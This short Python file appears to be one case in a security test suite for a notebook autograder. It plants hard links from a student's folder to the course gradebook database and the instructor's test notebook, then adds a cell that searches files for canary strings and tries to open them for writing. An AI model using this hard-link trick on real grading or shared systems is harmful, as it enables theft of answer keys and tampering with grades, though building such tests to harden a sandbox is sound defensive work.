# Tries: hard links to the gradebook and to the tests beside the notebook.
# Kind: theft
# Stock: no
from nbformat.v4 import new_code_cell

CODE = """\
import glob, re
for path in glob.glob("*"):
    try:
        print(path, re.findall(rb"CANARY-[0-9a-f]{24}", open(path, "rb").read()))
        open(path, "r+b").close()
        print("opened for writing")
    except OSError as error:
        print(error)
"""


def attack(notebook, folder, course):
    (folder / "book.db").hardlink_to(course / "course" / "gradebook.db")
    (folder / "tests.txt").hardlink_to(
        course / "notebooks" / "dinosaur_land" / "dinosaur_land.ipynb"
    )
    notebook.cells.append(new_code_cell(CODE))
    return notebook
